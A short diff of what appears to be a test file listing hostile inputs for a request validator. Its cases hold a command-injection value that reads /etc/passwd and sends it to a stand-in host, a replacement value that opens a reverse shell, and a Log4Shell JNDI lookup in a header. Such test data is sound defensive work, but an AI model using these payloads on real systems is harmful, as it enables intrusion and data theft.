@@ -141,7 +141,7 @@ HOSTILE: tuple[Case, ...] = (
         "a shell command in a form",
         False,
         "/items",
-        {"name": "chair; cat /etc/passwd | nc evil.example 4444"},
+        {"name": "chair; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
     ),
     Case("Log4Shell in a header", False, headers={"user-agent": "${jndi:ldap://evil.example:1389/a}"}),
     json_case(
